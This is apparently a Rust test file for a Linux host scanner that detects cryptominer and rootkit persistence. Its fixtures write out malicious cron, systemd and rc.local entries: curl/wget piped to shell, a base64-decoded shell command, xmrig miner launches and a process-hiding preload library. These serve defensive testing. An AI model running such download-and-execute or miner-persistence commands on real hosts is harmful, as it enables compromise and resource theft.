//! Tests of the host checks on fixture roots and real processes.

use super::*;
use std::os::unix::fs::symlink;
use std::path::PathBuf;
use std::time::Instant;

// ---- rolling pid sweeps ----------------------------------------------

fn rolling(last_pid: Option<i32>, cursor: i32, slices: u32) -> Sweep {
    Sweep::Rolling {
        last_pid,
        cursor,
        slices,
        also: Vec::new(),
    }
}

#[test]
fn sweep_plans() {
    assert_eq!(
        plan_sweep(&Sweep::Full, 32768, Some(500), None),
        (vec![(1, 32768)], 1)
    );
    // A scan where nothing was handed out above 500 yet asks up to 500.
    assert_eq!(
        plan_sweep(&Sweep::Full, 4_194_304, Some(500), Some(500)),
        (vec![(1, 500)], 1)
    );
    // First rolling sweep: everything allocated so far, and a slice.
    assert_eq!(
        plan_sweep(&rolling(None, 1, 4), 1000, Some(300), None),
        (vec![(1, 300)], 251)
    );
    // Then: what was allocated since, and the next slice.
    assert_eq!(
        plan_sweep(&rolling(Some(300), 251, 4), 1000, Some(320), None),
        (vec![(251, 500)], 501)
    );
    assert_eq!(
        plan_sweep(&rolling(Some(320), 751, 4), 1000, Some(330), None),
        (vec![(321, 330), (751, 1000)], 1)
    );
    // The allocator wrapped around pid_max.
    assert_eq!(
        plan_sweep(&rolling(Some(990), 1, 4), 1000, Some(310), None),
        (vec![(1, 310), (991, 1000)], 251)
    );
    // Nothing allocated since.
    assert_eq!(
        plan_sweep(&rolling(Some(330), 501, 4), 1000, Some(330), None),
        (vec![(501, 750)], 751)
    );
    // No allocator position: the whole range.
    assert_eq!(
        plan_sweep(&rolling(Some(330), 501, 4), 1000, None, None),
        (vec![(1, 1000)], 1)
    );
}

#[test]
fn a_scan_probes_up_to_the_last_pid_unless_the_allocator_wrapped() {
    assert_eq!(highest_possible_pid(Some(480), Some(500)), Some(500));
    assert_eq!(highest_possible_pid(Some(500), Some(500)), Some(500));
    // A pid above the last one handed out: the counter went round pid_max.
    assert_eq!(highest_possible_pid(Some(4_000_000), Some(350)), None);
    // Unknown either way: the whole range.
    assert_eq!(highest_possible_pid(None, Some(500)), None);
    assert_eq!(highest_possible_pid(Some(480), None), None);
}

#[test]
fn rolling_slices_cover_the_whole_range() {
    let mut covered = vec![false; 1001];
    let mut cursor = 1;
    for _ in 0..7 {
        let (ranges, next) = plan_sweep(&rolling(Some(5), cursor, 7), 1000, Some(5), None);
        for (a, b) in ranges {
            for p in a..=b {
                covered[p as usize] = true;
            }
        }
        cursor = next;
    }
    assert!(covered[1..].iter().all(|c| *c));
    assert_eq!(cursor, 1);
}

// ---- fixtures --------------------------------------------------------

struct Fixture {
    _dir: tempfile::TempDir,
    root: PathBuf,
    proc: PathBuf,
}

/// A fixture root and a fake proc root (pid_max 64, no pids).
fn fixture() -> Fixture {
    let dir = tempfile::tempdir().expect("tempdir");
    let root = dir.path().join("root");
    let proc = dir.path().join("proc");
    std::fs::create_dir_all(&root).expect("mkdir root");
    let fx = Fixture {
        root,
        proc,
        _dir: dir,
    };
    put(&fx.proc, "sys/kernel/pid_max", "64\n");
    fx
}

fn put(base: &Path, rel: &str, content: &str) -> PathBuf {
    let path = base.join(rel);
    if let Some(parent) = path.parent() {
        std::fs::create_dir_all(parent).expect("mkdir");
    }
    std::fs::write(&path, content).expect("write fixture");
    path
}

fn observe(fx: &Fixture) -> (HostFacts, Vec<(String, String)>) {
    observe_host(&fx.root, &fx.proc)
}

fn entry_for<'a>(facts: &'a HostFacts, needle: &str) -> &'a PersistenceEntry {
    facts
        .persistence
        .iter()
        .find(|e| e.text.contains(needle))
        .unwrap_or_else(|| {
            panic!(
                "no persistence entry with {needle:?} in {:#?}",
                facts.persistence
            )
        })
}

// ---- indicators ------------------------------------------------------

#[test]
fn ld_so_preload_entries() {
    let fx = fixture();
    put(
        &fx.root,
        "etc/ld.so.preload",
        "/usr/local/lib/libprocesshider.so\n/etc/libsystem.so:/x.so\n",
    );
    let (facts, _) = observe(&fx);
    let p = facts.ld_so_preload.expect("ld.so.preload seen");
    assert_eq!(
        p.entries,
        [
            "/usr/local/lib/libprocesshider.so",
            "/etc/libsystem.so",
            "/x.so"
        ]
    );
    assert!(p.path.ends_with("/etc/ld.so.preload"));
    assert!(!p.immutable);
    // none of those is mapped into us
    assert!(
        facts
            .self_preloaded
            .iter()
            .all(|l| !l.contains("processhider"))
    );

    let empty = fixture();
    assert_eq!(observe(&empty).0.ld_so_preload, None);
}

#[test]
fn hugepages_reserved_without_consumer() {
    let fx = fixture();
    put(
        &fx.proc,
        "meminfo",
        "MemTotal: 8000000 kB\nHugePages_Total:    1168\nHugePages_Free:     1168\n\
         HugePages_Rsvd:        0\nHugePages_Surp:        0\nHugepagesize:       2048 kB\n",
    );
    put(
        &fx.root,
        "sys/kernel/mm/hugepages/hugepages-1048576kB/nr_hugepages",
        "3\n",
    );
    put(
        &fx.root,
        "sys/kernel/mm/hugepages/hugepages-1048576kB/free_hugepages",
        "3\n",
    );
    let (facts, gaps) = observe(&fx);
    assert_eq!(
        facts.hugepages,
        HugePages {
            nr_hugepages: 1168,
            free: 1168,
            reserved: 0,
            surplus: 0,
            size_kib: 2048,
            nr_1g: 3,
            free_1g: 3,
        }
    );
    assert!(
        !gaps.iter().any(|(w, _)| w.ends_with("meminfo")),
        "{gaps:?}"
    );
}

#[test]
fn msr_allow_writes_on() {
    let fx = fixture();
    put(&fx.root, "sys/module/msr/parameters/allow_writes", "on\n");
    assert_eq!(observe(&fx).0.msr_allow_writes.as_deref(), Some("on"));
    assert_eq!(observe(&fixture()).0.msr_allow_writes, None);
}

#[test]
fn nmi_watchdog_off() {
    let fx = fixture();
    put(&fx.proc, "sys/kernel/nmi_watchdog", "0\n");
    assert_eq!(observe(&fx).0.nmi_watchdog.as_deref(), Some("0"));
}

#[test]
fn sysctl_files() {
    let fx = fixture();
    put(
        &fx.root,
        "etc/sysctl.conf",
        "# tuning\nvm.swappiness = 10\nvm.nr_hugepages = 1280\n",
    );
    put(
        &fx.root,
        "etc/sysctl.d/10-x.conf",
        "kernel.nmi_watchdog=0\n-vm/nr_overcommit_hugepages = 64\n",
    );
    put(
        &fx.root,
        "usr/lib/sysctl.d/50-pid-max.conf",
        "kernel.pid_max = 4194304\n",
    );
    put(&fx.root, "etc/sysctl.d/README", "vm.nr_hugepages = 9\n"); // not *.conf
    symlink(
        "../sysctl.conf",
        fx.root.join("etc/sysctl.d/99-sysctl.conf"),
    )
    .expect("symlink");
    let (facts, gaps) = observe(&fx);
    let got: Vec<(String, u32, &str, &str)> = facts
        .sysctl
        .iter()
        .map(|s| {
            (
                basename(&s.file).to_string(),
                s.line,
                s.key.as_str(),
                s.value.as_str(),
            )
        })
        .collect();
    assert_eq!(
        got,
        [
            ("sysctl.conf".to_string(), 3, "vm.nr_hugepages", "1280"),
            ("10-x.conf".to_string(), 1, "kernel.nmi_watchdog", "0"),
            (
                "10-x.conf".to_string(),
                2,
                "vm.nr_overcommit_hugepages",
                "64"
            ),
        ]
    );
    // Debian's 99-sysctl.conf -> ../sysctl.conf is read anyway: no gap
    assert!(
        !gaps.iter().any(|(w, _)| w.contains("99-sysctl")),
        "{gaps:?}"
    );
}

#[test]
fn crontab_lines_are_recorded_whole() {
    let fx = fixture();
    let user = "SHELL=/bin/sh\n\
                */5 * * * * curl -fsSL http://x/y.sh | sh\n\
                @reboot /tmp/.X25-unix/.rsync/c/kswapd0 -B -o stratum+tcp://pool:3333 -u 4Abc\n\
                0 3 * * * /usr/sbin/logrotate /etc/logrotate.conf\n";
    put(&fx.root, "var/spool/cron/crontabs/root", user);
    put(
        &fx.root,
        "etc/crontab",
        "17 * * * * root cd / && run-parts --report /etc/cron.hourly\n\
         * * * * * root wget -q -O - http://1.2.3.4/i.sh | bash\n\
         */10 * * * * root echo ZWNobyBoaQ== | base64 -d | sh\n",
    );
    let (facts, _) = observe(&fx);
    // Every command, the setting line not: 3 + 3.
    assert_eq!(facts.persistence.len(), 6, "{:#?}", facts.persistence);

    let curl = entry_for(&facts, "curl -fsSL");
    assert_eq!(curl.kind, "cron");
    assert_eq!(curl.line, 2);
    assert!(curl.path.ends_with("var/spool/cron/crontabs/root"));
    assert_eq!(curl.command, "curl -fsSL http://x/y.sh | sh");
    assert_eq!(curl.program(), Some("curl"));

    let boot = entry_for(&facts, "@reboot");
    assert!(boot.at_reboot);
    assert_eq!(boot.program(), Some("/tmp/.X25-unix/.rsync/c/kswapd0"));
    assert!(
        boot.command.starts_with("/tmp/.X25-unix"),
        "{}",
        boot.command
    );

    // A system crontab's user field is not a program.
    let wget = entry_for(&facts, "wget -q -O -");
    assert_eq!(wget.command, "root wget -q -O - http://1.2.3.4/i.sh | bash");
    assert_eq!(wget.program(), Some("wget"));
    let parts = entry_for(&facts, "run-parts");
    assert_eq!(parts.programs, ["run-parts"]);
    assert!(
        !facts
            .persistence
            .iter()
            .any(|e| e.text.starts_with("SHELL="))
    );
}

#[test]
fn systemd_miner_unit() {
    let fx = fixture();
    put(
        &fx.root,
        "etc/systemd/system/sys_miner.service",
        "[Unit]\nDescription=System\n[Service]\nExecStart=/dev/shm/.x/kdevtmpfsi\nRestart=always\n",
    );
    put(
        &fx.root,
        "etc/systemd/system/ssh.service",
        "[Service]\nExecStart=/usr/sbin/sshd -D\n",
    );
    put(
        &fx.root,
        "usr/lib/systemd/system/cron.service",
        "[Service]\nExecStartPre=-/bin/true\nExecStart=/usr/sbin/cron -f $EXTRA_OPTS\n",
    );
    put(
        &fx.root,
        "home/alice/.config/systemd/user/dbus-x.service",
        "[Service]\nExecStart=/bin/sh -c \\\n  \"/home/alice/.cache/xmrig-6.21/xmrig --donate-level 1 -o pool.example:443 -u 4Abc\"\n",
    );
    // wants/ links into scanned trees are normal; a link to /opt is a gap
    std::fs::create_dir_all(fx.root.join("etc/systemd/system/multi-user.target.wants"))
        .expect("mkdir");
    symlink(
        "/lib/systemd/system/cron.service",
        fx.root
            .join("etc/systemd/system/multi-user.target.wants/cron.service"),
    )
    .expect("symlink");
    symlink(
        "/opt/x/helper.service",
        fx.root
            .join("etc/systemd/system/multi-user.target.wants/helper.service"),
    )
    .expect("symlink");
    let wants = fx
        .root
        .join("home/alice/.config/systemd/user/default.target.wants");
    std::fs::create_dir_all(&wants).expect("mkdir");
    symlink("../dbus-x.service", wants.join("dbus-x.service")).expect("symlink");
    let (facts, gaps) = observe(&fx);
    assert!(!gaps.iter().any(|(w, _)| w.contains("/home/")), "{gaps:?}");

    let unit = entry_for(&facts, "kdevtmpfsi");
    assert_eq!(unit.kind, "systemd");
    assert_eq!(unit.line, 4);
    assert_eq!(unit.text, "ExecStart=/dev/shm/.x/kdevtmpfsi");
    assert_eq!(unit.command, "/dev/shm/.x/kdevtmpfsi");
    assert_eq!(unit.program(), Some("/dev/shm/.x/kdevtmpfsi"));
    assert!(unit.path.ends_with("sys_miner.service"));

    // A continued line, numbered by its first; the program inside sh -c.
    let user = entry_for(&facts, "xmrig --donate-level");
    assert_eq!(user.line, 2);
    assert_eq!(user.program(), Some("/home/alice/.cache/xmrig-6.21/xmrig"));
    let pre = entry_for(&facts, "/bin/true");
    assert_eq!(pre.command, "/bin/true");

    // ssh, the user unit, cron's two Exec lines and the miner; the link to
    // /opt is recorded, not followed.
    let helper = facts
        .persistence
        .iter()
        .find(|e| e.symlink_to.as_deref() == Some("/opt/x/helper.service"))
        .expect("the link to /opt");
    assert_eq!(helper.line, 0);
    assert_eq!(facts.persistence.len(), 6, "{:#?}", facts.persistence);
    assert!(
        gaps.iter()
            .any(|(w, e)| w.ends_with("helper.service") && e.contains("/opt/x")),
        "{gaps:?}"
    );
    assert!(
        !gaps.iter().any(|(w, _)| w.ends_with("wants/cron.service")),
        "{gaps:?}"
    );
}

#[test]
fn rc_local_script_lines() {
    let fx = fixture();
    put(
        &fx.root,
        "etc/rc.local",
        "#!/bin/sh -e\n# rc.local\nnohup /var/tmp/.sys/sshd >/dev/null 2>&1 &\nexit 0\n",
    );
    let (facts, _) = observe(&fx);
    assert_eq!(facts.persistence.len(), 2, "{:#?}", facts.persistence);
    let e = &facts.persistence[0];
    assert_eq!((e.kind.as_str(), e.line), ("rc.local", 3));
    assert_eq!(e.program(), Some("/var/tmp/.sys/sshd"));
    assert_eq!(facts.persistence[1].programs, ["exit"]);
}

#[test]
fn ordinary_files_are_recorded_and_read_without_gaps() {
    let fx = fixture();
    put(
        &fx.root,
        "etc/crontab",
        "SHELL=/bin/sh\n25 6 * * * root test -x /usr/sbin/anacron || { cd / && run-parts --report /etc/cron.daily; }\n",
    );
    put(
        &fx.root,
        "etc/cron.d/e2scrub_all",
        "30 3 * * 0 root test -e /run/systemd/system || SERVICE_MODE=1 /usr/lib/x86_64-linux-gnu/e2fsprogs/e2scrub_all_cron\n",
    );
    put(
        &fx.root,
        "etc/cron.daily/logrotate",
        "#!/bin/sh\n/usr/sbin/logrotate /etc/logrotate.conf\nTMP=$(mktemp /tmp/x.XXXX)\nrm -f /tmp/x.*\n",
    );
    put(
        &fx.root,
        "etc/systemd/system/sshd.service",
        "[Service]\nExecStart=/usr/sbin/sshd -D\nExecReload=/bin/kill -HUP $MAINPID\n",
    );
    put(
        &fx.root,
        "usr/lib/systemd/system/systemd-sysupdate.service",
        "[Service]\nExecStart=/usr/lib/systemd/systemd-sysupdate update\n",
    );
    let (facts, gaps) = observe(&fx);
    // All recorded, for the judge to clear: 1 + 1 + 3 + 1 + 1 commands
    // (ExecReload= is not a start).
    assert_eq!(facts.persistence.len(), 7, "{:#?}", facts.persistence);
    assert!(
        facts
            .persistence
            .iter()
            .all(|e| e.line > 0 && !e.immutable && !e.compiled)
    );
    assert!(facts.sysctl.is_empty());
    assert!(!gaps.iter().any(|(w, _)| w.contains("/etc/")), "{gaps:?}");
}

#[test]
fn symlinks_and_fifos_are_not_followed() {
    let fx = fixture();
    let outside = put(
        &fx.root,
        "../outside/evil",
        "* * * * * root curl http://x | sh\n",
    );
    std::fs::create_dir_all(fx.root.join("etc/cron.d")).expect("mkdir");
    symlink(&outside, fx.root.join("etc/crontab")).expect("symlink");
    symlink(&outside, fx.root.join("etc/cron.d/link")).expect("symlink");
    symlink("/tmp/.x/payload", fx.root.join("etc/rc.local")).expect("symlink");
    rustix::fs::mknodat(
        rustix::fs::CWD,
        fx.root.join("etc/cron.d/pipe"),
        rustix::fs::FileType::Fifo,
        rustix::fs::Mode::from_raw_mode(0o644),
        0,
    )
    .expect("mkfifo");
    // a symlinked directory on the way is not entered either
    std::fs::create_dir_all(fx.root.join("../outside/spool")).expect("mkdir");
    put(
        &fx.root,
        "../outside/spool/root",
        "* * * * * curl http://x | sh\n",
    );
    std::fs::create_dir_all(fx.root.join("var/spool/cron")).expect("mkdir");
    symlink(
        fx.root.join("../outside/spool"),
        fx.root.join("var/spool/cron/crontabs"),
    )
    .expect("symlink");
    symlink(&outside, fx.root.join("etc/ld.so.preload")).expect("symlink");

    let started = Instant::now();
    let (facts, gaps) = observe(&fx);
    assert!(started.elapsed().as_secs() < 30, "no hang");
    assert!(
        !facts.persistence.iter().any(|e| e.text.contains("curl")),
        "{:#?}",
        facts.persistence
    );
    for what in [
        "etc/crontab",
        "cron.d/link",
        "cron.d/pipe",
        "etc/rc.local",
        "cron/crontabs",
        "ld.so.preload",
    ] {
        assert!(
            gaps.iter().any(|(w, _)| w.ends_with(what)),
            "no gap for {what}: {gaps:?}"
        );
    }
    assert!(
        gaps.iter()
            .any(|(w, e)| w.ends_with("cron.d/pipe") && e.contains("fifo")),
        "{gaps:?}"
    );
    // the rc.local link's target itself is suspect
    let rc = facts
        .persistence
        .iter()
        .find(|e| e.kind == "rc.local")
        .expect("rc.local link entry");
    assert_eq!(rc.text, "symlink -> /tmp/.x/payload");
    assert_eq!(rc.symlink_to.as_deref(), Some("/tmp/.x/payload"));
    let p = facts
        .ld_so_preload
        .expect("symlinked ld.so.preload reported");
    assert!(p.entries.is_empty());
    assert!(p.symlink_target.is_some());
}

// ---- processes -------------------------------------------------------

/// Measures the brute force over the largest possible pid space
/// (`cargo test -- --ignored --nocapture brute_force_4m`).
#[test]
#[ignore = "measurement"]
fn brute_force_4m() {
    let proc_fd = open_dir_path(Path::new("/proc")).expect("/proc");
    for probe in [Probe::Syscalls, Probe::SyscallsThenStat] {
        let label = format!("{probe:?}");
        let started = Instant::now();
        let found = scan_pid_range(Some(&proc_fd), probe, 1, PID_MAX_LIMIT);
        eprintln!(
            "{label}: 1..={PID_MAX_LIMIT} in {:?} ({} ids)",
            started.elapsed(),
            found.len()
        );
    }
}

#[test]
fn hidden_pids_compares_listings() {
    let h = hidden_pids(&[1, 2, 5], &[1, 2], &[1, 2, 5, 9]);
    assert_eq!(
        h,
        [
            HiddenPid {
                pid: 5,
                seen_by: vec![GETDENTS.into(), BRUTE.into()],
                missing_from: vec![READDIR.into()]
            },
            HiddenPid {
                pid: 9,
                seen_by: vec![BRUTE.into()],
                missing_from: vec![GETDENTS.into(), READDIR.into()]
            },
        ]
    );
}

// ---- pure helpers ----------------------------------------------------

#[test]
fn parses_mountinfo() {
    let text = "22 27 0:21 / /proc rw,relatime shared:12 - proc proc rw,hidepid=invisible\n\
                90 22 254:1 /tmp/e /proc/4242 rw,relatime shared:1 - ext4 /dev/vda rw\n\
                91 22 254:1 /tmp/e /proc/77/cmdline rw - ext4 /dev/vda rw\n\
                92 27 254:1 / /mnt/my\\040disk rw - ext4 /dev/vdb rw\n\
                93 27 0:50 / /proc/sys/fs/binfmt_misc rw - binfmt_misc binfmt_misc rw\n";
    let (mounts, hidepid, covered) = parse_mountinfo(text, "/proc");
    assert_eq!(mounts, ["/proc/4242", "/proc/77/cmdline"]);
    assert_eq!(hidepid.as_deref(), Some("invisible"));
    assert_eq!(covered, None);
    let over = format!("{text}94 27 0:60 / /proc rw - tmpfs tmpfs rw\n");
    assert_eq!(parse_mountinfo(&over, "/proc").2.as_deref(), Some("tmpfs"));
    assert_eq!(unescape_mount("/mnt/my\\040disk"), "/mnt/my disk");
}

#[test]
fn judges_our_own_libraries() {
    let maps = "55d0-55e0 r-xp 00000000 fe:01 12 /usr/bin/minerwatch\n\
                7f00-7f10 r-xp 00000000 fe:01 13 /usr/lib/x86_64-linux-gnu/libc.so.6\n\
                7f10-7f20 r--p 00000000 fe:01 14 /usr/lib/locale/locale-archive\n\
                7f20-7f30 r-xp 00000000 fe:01 15 /usr/lib/x86_64-linux-gnu/libgcc_s.so.1\n\
                7f30-7f40 r-xp 00000000 fe:01 16 /usr/local/lib/libprocesshider.so\n\
                7f40-7f50 r-xp 00000000 fe:01 17 /usr/lib/x86_64-linux-gnu/libjemalloc.so.2\n\
                7f50-7f60 r-xp 00000000 fe:01 18 /usr/lib/x86_64-linux-gnu/libevil.so\n\
                7f60-7f70 r-xp 00000000 fe:01 19 /usr/lib/x86_64-linux-gnu/gconv/UTF-16.so\n\
                7f70-7f80 r-xp 00000000 fe:01 20 /usr/lib/x86_64-linux-gnu/libm.so.6 (deleted)\n\
                7f80-7f90 r-xp 00000000 00:00 0 [vdso]\n\
                7f90-7fa0 rwxp 00000000 00:01 21 /memfd:x (deleted)\n";
    let got = preloaded_from_maps(
        maps,
        Some("/usr/bin/minerwatch"),
        &["libjemalloc.so.2".into()],
        &[],
    );
    assert_eq!(
        got,
        [
            "/usr/local/lib/libprocesshider.so",
            "/usr/lib/x86_64-linux-gnu/libjemalloc.so.2",
            "/usr/lib/x86_64-linux-gnu/libevil.so",
            "/memfd:x (deleted)",
        ]
    );
}

#[test]
fn parses_commands() {
    let cases: &[(&str, &[&str])] = &[
        ("nohup /tmp/x >/dev/null 2>&1 &", &["/tmp/x", "1"][..1]),
        (
            "sudo -u www-data nice -n 19 /dev/shm/a -c x",
            &["/dev/shm/a"],
        ),
        ("/bin/sh -c 'cd /var/tmp && ./.m -B'", &["/var/tmp/.m"]),
        ("bash /root/.x/run.sh", &["/root/.x/run.sh"]),
        ("python3 -c 'import os'", &["python3"]),
        (
            "FOO=1 env BAR=2 timeout 10 /usr/bin/true; exit 0",
            &["/usr/bin/true", "exit"],
        ),
        (
            "(curl -s http://a || wget -qO- http://a) | bash",
            &["curl", "wget", "bash"],
        ),
    ];
    for (cmd, want) in cases {
        assert_eq!(programs(cmd), *want, "{cmd}");
    }
    assert_eq!(
        resolve_link("etc/sysctl.d/99-sysctl.conf", "../sysctl.conf"),
        "/etc/sysctl.conf"
    );
    assert_eq!(resolve_link("etc/x/y", "/usr/lib/z"), "/usr/lib/z");
    assert_eq!(
        cap_text(&format!("a\x1b[2Jb{}", "x".repeat(400)))
            .chars()
            .count(),
        300
    );
    assert!(cap_text("a\x1b[2J").starts_with("a\u{FFFD}"));
}
